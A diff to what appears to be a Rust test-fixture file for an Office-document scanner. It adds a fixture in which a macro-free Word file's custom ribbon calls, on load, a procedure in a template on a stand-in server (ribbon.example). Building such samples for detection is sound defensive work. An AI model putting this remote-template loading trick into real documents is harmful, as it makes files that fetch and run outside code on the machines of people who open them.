@@ -140,6 +140,23 @@ fn ribbon_elsewhere() -> Vec<u8> {
         .build()
 }
 
+/// A document without macros whose customised ribbon calls a procedure of a template on a server when it is loaded.
+fn ribbon_of_a_server() -> Vec<u8> {
+    Package::word(false)
+        .related(
+            "http://schemas.microsoft.com/office/2006/relationships/ui/userCustomization",
+            "customUI/own.xml",
+            false,
+        )
+        .part(
+            "customUI/own.xml",
+            "application/xml",
+            b"<mso:customUI xmlns:mso=\"http://schemas.microsoft.com/office/2006/01/customui\" \
+              onLoad=\"https://ribbon.example/a.dotm!M.Ready\"/>",
+        )
+        .build()
+}
+
 const SHOWS: &str = "\
 Dim 出力 As String, req As Object
 出力 = ThisWorkbook.Path & \"\\出力\\\"
@@ -194,6 +211,7 @@ pub(crate) fn fixtures() -> Vec<Fixture> {
         Fixture::new("docm-control-text", "order.docm", box_in_a_letter()),
         Fixture::new("xlsx-formula-fetches", "prices.xlsx", web_service()),
         Fixture::new("xlsm-ribbon-elsewhere", "tools.xlsm", ribbon_elsewhere()),
+        Fixture::new("docx-ribbon-of-a-server", "notice.docx", ribbon_of_a_server()),
         Fixture::new(
             "xlsm-event-property",
             "order.xlsm",
